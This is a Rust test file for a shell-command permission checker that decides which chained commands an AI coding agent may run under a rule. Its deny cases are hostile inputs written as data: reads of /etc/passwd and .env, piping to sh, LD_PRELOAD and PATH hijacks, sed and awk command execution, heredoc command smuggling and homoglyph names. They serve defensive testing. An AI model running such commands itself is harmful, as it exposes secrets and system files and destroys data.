//! Standing rules for commands that stand in a line with others.

use holdpoint_core::Status;
use holdpoint_core::rule::line::SimpleCommand;
use proptest::prelude::*;
use serde_json::{Value, json};

use crate::rules::{add, add_as, ana, ask, bash};
use crate::world::World;

fn allowing(command: &Value) -> Value {
    json!({"then": "allow", "when": {"asked_by": "coder", "command": command}})
}

fn with_rule(command: &Value) -> World {
    let mut world = World::new();
    add(&mut world, allowing(command));
    world
}

fn is_allowed(world: &mut World, command: &str) -> bool {
    ask(world, bash(command)).status == Status::Answered
}

const COMMIT: &str =
    "git commit -m \"$(cat <<'EOF'\nfix(core): say it – once\n\nCo-Authored-By: A <a@example.org>\nEOF\n)\"";

#[test]
fn what_only_looks_may_stand_beside_what_is_named() {
    let mut world = with_rule(
        &json!({"words": ["cargo", "test"], "more": "looking", "cwd": "/srv/app/**", "composite": true}),
    );
    for command in [
        "cargo test",
        "cargo test 2>&1",
        "cargo test -p core 2>&1 | tail -20",
        "cargo test 2>&1|tail",
        "cd /srv/app && cargo test 2>/dev/null | grep -c ok",
        "cd src && cargo test",
        "cd src; cargo test",
        "cd ./src/ && cd core && cargo test",
        "cargo test; echo 'done; really'",
        "git status\ncargo test\n",
        "cargo test > /dev/null 2>&1 || cat target/log.txt",
        "ls | wc -l && cargo test && cargo test --release",
        "sed -n '1,20p' src/a.rs && cargo test",
    ] {
        assert!(is_allowed(&mut world, command), "{command}");
    }
    for command in [
        "ls && cat src/a.rs",
        "cargo test | sh",
        "cargo test && rm -rf target",
        "cargo test & ls",
        "cargo test |& tail",
        "cargo test ;; ls",
        "cargo test &&",
        "&& cargo test",
        "cargo test > out.txt",
        "cargo test 2>&1x",
        "cargo test 2>/dev/nullx",
        "cargo test 2> /dev/null/../tty",
        "cargo test >> /dev/null",
        "cargo test < in.txt",
        "cargo test | tee out.txt",
        "cargo test | xargs rm",
        "cargo test && ls $HOME",
        "cargo test && ls `id`",
        "cargo test && (ls)",
        "cargo test && { ls; }",
        "cargo test && cat .env",
        "cargo test && cat /etc/passwd",
        "cargo test && cat ../x",
        "cargo test && grep -r x .",
        "cargo test && uniq a b",
        "cargo test && sed -n 1e a",
        "cargo test && sed -i 1p a",
        "cargo test && find . -name a -exec rm x",
        "cargo test && find . -delete",
        "cargo test && sort -o x y",
        "cargo test && cargo build",
        "cargo test\nrm x",
        "cargo test # x\nrm y",
        "cd /etc && cargo test",
        "cd /srv/app/../other && cargo test",
        "cd .. && cargo test",
        "cd .git && cat config && cargo test",
        "cd /srv/app/.git && cargo test",
        "cd - && cargo test",
        "cd ~ && cargo test",
        "cd && cargo test",
        "cd src; cd core; cargo test",
        "cargo test && cd / && cat etc/passwd",
        "cd src | cargo test",
        "FOO=1 cargo test | tail",
        "cargo test && FOO=1 ls",
        "if true; then cargo test; fi",
        "cargo test && eval ls",
        "cargo test && alias ls=rm",
        "cargo test\u{2028}ls",
        "cargo test && ls\u{a0}x",
        "cargo test && lѕ",
    ] {
        assert!(!is_allowed(&mut world, command), "{command}");
    }
    let many = vec!["ls"; 17].join(" && ");
    assert!(!is_allowed(&mut world, &format!("cargo test && {many}")), "as many as are looked at");
}

#[test]
fn what_runs_although_a_folder_is_not_there_runs_where_the_rule_counts() {
    let mut world =
        with_rule(&json!({"words": [], "more": "looking", "cwd": "/srv/app/**", "composite": true}));
    let mut at = |cwd: &str, command: &str| {
        let subject = json!({"tool": "Bash", "input": {"command": command}, "cwd": cwd});
        ask(&mut world, subject).status == Status::Answered
    };
    for command in ["cd /srv/app && cat a", "cd /srv/app && cat a | head && ls"] {
        assert!(at("/", command), "{command}");
    }
    for command in [
        "cd /srv/app/none && ls; cat etc/passwd",
        "cd /srv/app/none && ls || cat etc/passwd",
        "cd /srv/app/none && ls\ncat etc/passwd",
        "cd /srv/app && cd none && ls | head; cat etc/passwd",
    ] {
        assert!(!at("/", command), "{command}");
        assert!(at("/srv/app", &command.replace("etc/passwd", "src/a")), "{command}");
    }
}

#[test]
fn whatever_looks_or_builds_is_allowed_as_one() {
    let looking = json!({"words": [], "more": "looking", "cwd": "/srv/app", "composite": true});
    let building = json!({"words": [], "more": "building", "cwd": "/srv/app", "composite": true});
    let (mut looks, mut builds) = (with_rule(&looking), with_rule(&building));
    for (command, by_looking, by_building) in [
        ("ls -la && git log --oneline | head -5", true, true),
        ("cat src/b.rs | grep x && ls", true, true),
        ("cargo fmt --all && cargo clippy --all-targets 2>&1 | tail -3", false, true),
        ("npm run lint && npm test", false, true),
        ("pnpm --filter web lint && pnpm vitest run src/a.test.ts", false, true),
        ("npm run deploy", false, false),
        ("pnpm run build deploy", false, false),
        ("pnpm deploy", false, false),
        ("npm lint", false, false),
        ("grep -rn KEY packages", false, false),
        ("diff -r a b", false, false),
        ("cargo test && git push", false, false),
        ("cargo run", false, false),
        ("git commit -m x", false, false),
        ("echo hi | git commit -F x", false, false),
        ("prettier --write package.json", false, false),
    ] {
        assert_eq!(is_allowed(&mut looks, command), by_looking, "{command}");
        assert_eq!(is_allowed(&mut builds, command), by_building, "{command}");
    }
}

#[test]
fn without_saying_so_a_rule_is_for_commands_that_stand_alone() {
    let mut world = with_rule(&json!({"words": ["cargo", "test"], "more": "looking"}));
    for command in ["cargo test 2>&1", "cargo test | tail", "cd /srv/app && cargo test", "ls; cargo test"] {
        assert!(!is_allowed(&mut world, command), "{command}");
    }
}

#[test]
fn what_is_not_known_stands_in_a_line_word_for_word_and_is_not_fed() {
    let mut world =
        with_rule(&json!({"words": ["make", "migrate"], "cwd": "/srv/app/**", "composite": true}));
    for command in [
        "make migrate",
        "make migrate 2>&1 | tail -5",
        "cd src && make migrate && git status",
        "ls | wc -l && make migrate",
        "make migrate; echo \"exit: $?\"",
    ] {
        assert!(is_allowed(&mut world, command), "{command}");
    }
    for command in [
        "echo x | make migrate",
        "make migrate deploy",
        "make migrate && make deploy",
        "CI=1 make migrate",
        "make migr*",
        "make migrate | sh",
        "cat a | sort | make migrate",
        "make migrate $?",
    ] {
        assert!(!is_allowed(&mut world, command), "{command}");
    }
    for words in [json!(["sh"]), json!(["xargs", "wc"]), json!(["psql", "-f", "a"])] {
        let named: Vec<&str> = words.as_array().unwrap().iter().filter_map(Value::as_str).collect();
        let named = named.join(" ");
        let mut world = with_rule(&json!({"words": words, "composite": true}));
        assert!(is_allowed(&mut world, &format!("{named} | tail")), "{named}");
        assert!(!is_allowed(&mut world, &format!("echo x | {named}")), "{named}");
    }
    let mut world = World::new();
    let refused = [
        json!({"words": ["make"], "more": "operands", "composite": true}),
        json!({"words": ["tee", {"glob": "a*"}], "composite": true}),
    ];
    for command in refused {
        let refused = add_as(&mut world, &ana(), allowing(&command)).unwrap_err().to_string();
        assert!(refused.contains("only word for word"), "{refused}");
    }
    let named = allowing(&json!({"words": ["cargo", "test"], "more": "building"}));
    assert!(add_as(&mut world, &ana(), named).is_err());
    let open = allowing(&json!({"words": ["cargo", "test"], "more": "anything", "composite": true}));
    assert!(add_as(&mut world, &ana(), open).is_err());
}

#[test]
fn what_commands_are_given_beside_files_is_told_from_files() {
    let building = json!({"words": [], "more": "building", "cwd": "/srv/app/**", "composite": true});
    let mut world = with_rule(&building);
    for command in [
        "grep -n '/v1/users' src/a.rs",
        "grep -n 'a=1; b: @c' src/a.rs | cut -d: -f1,2",
        "grep -rn 'NewServer(' --include=*.go . | head",
        "rg -n 'process.env' src",
        "sed 's/a/b/g' src/a.rs | awk '{print $1}' | sort -k2,2n -t, | uniq -c",
        "jq -r '.scripts' package.json",
        "wc -l src/*.rs && du -sh data/*",
        "cat /srv/app/src/a.rs",
        "cargo test --manifest-path /srv/app/x 2>&1; ls",
        "go test ./... -run 'TestA|TestB' -count=1 2>&1 | tail -5; echo \"exit: $?\"",
        "cargo test 2>&1 | tail -5; echo \"${PIPESTATUS[0]}\"",
        "CI=1 RUST_BACKTRACE=1 cargo test",
        "bundle exec rspec spec/a_spec.rb:12 --format documentation -e 'a (b)'",
        "golangci-lint run ./internal/... && make lint test",
        "pnpm -r build && pnpm --filter web exec tsc --noEmit && pnpm turbo run lint --filter=web",
        "git show HEAD~2:src/a.rs && git log --author='A <a@example.org>' --since='2 days ago' --format='%h %s'",
        "docker compose logs api --since 5m | tail",
        "gh pr view 7 --json title,body -q .title",
        "date +%F && sleep 2 && python3 --version",
        "uv sync --all-extras && npm ci",
        "diff a.yaml b.yaml",
    ] {
        let expected = !command.contains("--manifest-path");
        assert_eq!(is_allowed(&mut world, command), expected, "{command}");
    }
    for command in [
        "grep KEY .env",
        "grep -e KEY .env",
        "grep -enil .env",
        "rg -gA KEY .env",
        "rg --files .ssh",
        "rg -n x /etc",
        "sed -n '1,60p;$e id' src/a.rs",
        "sed -i 's/a/b/' src/a.rs",
        "sed 's/a/b/e' src/a.rs",
        "sed 's/a/b/w x' src/a.rs",
        "sed 's/a/b/' .env",
        "awk 'BEGIN{system(\"id\")}'",
        "awk '{print > \"x\"}' a",
        "awk -f x a",
        "awk '{print}' .env",
        "jq -n env",
        "jq -n '$ENV.HOME'",
        "jq -f x a.json",
        "jq . tokens.json",
        "jq 'import \"./x\" as $x; .' a.json",
        "gh pr view 7 --json title -q env.GH_TOKEN",
        "cat config/*",
        "cat *.rs",
        "cat src/.*",
        "ls ~/*",
        "rm src/*.rs",
        "cargo test *",
        "cat /srv/app/.env",
        "cat /srv/app/../other/a",
        "cat /srv/application/a",
        "cat /srv/app//a",
        "echo \"$HOME\"",
        "echo $?$(id)",
        "PATH=. cargo test",
        "LD_PRELOAD=./x ls",
        "RAILS_ENV=production bundle exec rspec",
        "NODE_OPTIONS=--require=./x npm test",
        "GIT_PAGER=sh git log",
        "bundle exec rspec --format ./evil",
        "bundle exec rspec --format=Evil",
        "bundle exec rspec lib/a.rb:12",
        "vitest run --reporter=./evil.js",
        "pytest --cov-report=html:/tmp/x",
        "git show HEAD:.env",
        "git show evil.example:x/../y",
        "git log --output=x",
        "git log --format='%G?'",
        "docker compose config",
        "docker compose exec db sh",
        "docker compose -f x ps",
        "docker run x",
        "docker inspect x",
        "golangci-lint run --out x",
        "make deploy",
        "make test deploy",
        "make test SHELL=./x",
        "make -f x test",
        "npm install",
        "npm ci evil",
        "uv sync --index-url https://evil.example",
        "pnpm --filter web exec evil",
        "pnpm dlx evil",
        "pnpm turbo run deploy",
        "go test -coverprofile=/tmp/x.out ./...",
        "go tool cover -html=x.out",
        "date -s 2020-01-01",
        "printf -v x y",
        "git commit -m x",
        "git add src",
    ] {
        assert!(!is_allowed(&mut world, command), "{command}");
    }
}

#[test]
fn what_commits_may_stand_beside_what_builds() {
    let mut world =
        with_rule(&json!({"words": [], "more": "committing", "cwd": "/srv/app/**", "composite": true}));
    for command in [
        COMMIT,
        "git add -A && git commit -qm 'a' && git log -1",
        "cargo fmt && cargo test 2>&1 | tail -3 && git commit -am 'a'",
        "git stash && cargo test; git stash pop",
        "git checkout -b fix/a",
        "git commit --amend --no-edit",
    ] {
        assert!(is_allowed(&mut world, command), "{command}");
    }
    for command in [
        "git commit -m a && git push",
        "git commit -m a --no-verify",
        "CI=1 git commit -m a",
        "git add src/* && git commit -m a",
        "git add .env && git commit -m a",
        "git checkout feature",
        "git reset --hard",
        "npx tsc --noEmit",
    ] {
        assert!(!is_allowed(&mut world, command), "{command}");
    }
}

#[test]
fn a_part_that_is_refused_or_asked_is_not_allowed_in_a_line() {
    let looking = json!({"words": [], "more": "looking", "cwd": "/srv/app/**", "composite": true});
    for then in ["refuse", "ask"] {
        let mut world = with_rule(&looking);
        let log = json!({"words": ["cat", "prod.log"]});
        add(&mut world, json!({"then": then, "when": {"command": log}}));
        for command in ["cat prod.log", "ls && cat prod.log", "cat prod.log | head"] {
            let asked = ask(&mut world, bash(command));
            assert_eq!(asked.status == Status::Pending, then == "ask", "{command}");
            let chosen = asked.answer.and_then(|answer| answer.values.get("choice").cloned());
            assert_eq!(chosen == Some(json!("deny")), then == "refuse", "{command}");
        }
        assert!(is_allowed(&mut world, "ls && cat dev.log"));
    }
}

#[test]
fn a_commit_may_have_any_message_however_it_is_given() {
    let message = json!({"glob": "**"});
    let mut world =
        with_rule(&json!({"words": ["git", "commit", "-m", message], "cwd": "/srv/app", "composite": true}));
    for command in [
        COMMIT,
        "git commit -m 'one\n\ntwo'",
        "git commit -m \"Grüße\"",
        "git status && git commit -m 'a'",
        "git add -A && git commit -m 'a'",
        "git add src/a.rs src/b.rs && git commit -m 'a' && git status",
        &format!("{COMMIT} && git log -1"),
    ] {
        assert!(is_allowed(&mut world, command), "{command}");
    }
    for command in [
        "git commit -m \"$(cat <<EOF\n$(rm x)\nEOF\n)\"".to_owned(),
        "git commit -m \"$(cat <<'EOF'\na $(rm x)\nEOF\n)\"".to_owned(),
        "git commit -m \"$(cat <<'EOF'\na)\"; rm x; echo \"(\nEOF\n)\"".to_owned(),
        "git commit -m \"$(cat <<'EOF'\nEOF\nrm x\nEOF\n)\"".to_owned(),
        "git commit -m \"$(cat <<'EOF'\na\nEOF\nrm x)\"".to_owned(),
        "git commit -m \"$(cat <<'EOF'\nit's (so)\nEOF\n)\"".to_owned(),
        "git commit -m \"$(cat <<'EOF'\na\nEOF\n)\" --no-verify".to_owned(),
        "git commit -m \"$(cat x)\"".to_owned(),
        "git add -A && git commit -m 'a' && git push".to_owned(),
        "git add .env && git commit -m 'a'".to_owned(),
        "git add -f x && git commit -m 'a'".to_owned(),
        "git add -A".to_owned(),
        "git add \"$(cat <<'EOF'\na\nEOF\n)\"".to_owned(),
        "git commit -m 'a\u{1b}[2J'".to_owned(),
        COMMIT.replace("git commit", "git comm\u{456}t"),
        format!("{COMMIT}; rm x"),
    ] {
        assert!(!is_allowed(&mut world, &command), "{command}");
    }
}

proptest! {
    /// Whatever is joined to what a rule allows, a line with one part that nobody knows is asked.
    #[test]
    fn a_line_with_an_unknown_part_is_asked(
        parts in proptest::collection::vec("ls|cat src/a|cargo test|git status|cd src|tail -5", 0..4),
        joints in proptest::collection::vec(" && | ; | \\|\\| | \\| |\\n|;|&&|\\|", 5),
        unknown in "rm x|curl a|make|make deploy|A=1 ls|PATH=\\. ls|cat \\*|cat a/\\*|echo \\$\\(id\\)|sed 1e a|awk -f a|jq -f a|docker run a|sh|tee a|cat \\.env|ls > x|ls \\$x|ls \\*|git push|cat /etc/passwd|x|sudo ls|\\(ls\\)|cd /|`ls`",
        at in 0..4_usize,
    ) {
        let mut world = with_rule(&json!({"words": [], "more": "building", "cwd": "/srv/app/**", "composite": true}));
        let mut parts = parts;
        parts.insert(at.min(parts.len()), unknown);
        let mut line = String::new();
        for (part, joint) in parts.iter().zip(&joints) {
            if !line.is_empty() {
                line.push_str(joint);
            }
            line.push_str(part);
        }
        prop_assert!(!is_allowed(&mut world, &line), "{}", line);
    }

    /// No text makes the reader of lines do anything but say yes or no.
    #[test]
    fn any_text_is_read(text in "[a-z &|;<>$'\"\\\\\\n(){}=#~!é-]{0,60}|\\PC{0,40}") {
        let line = holdpoint_core::rule::line::line(&text);
        if let Ok(words) = holdpoint_core::rule::command::simple_words(&text) {
            prop_assert!(words[0] == "cd" || line.is_ok_and(|line| line.commands == [SimpleCommand::of(words)]));
        }
    }
}
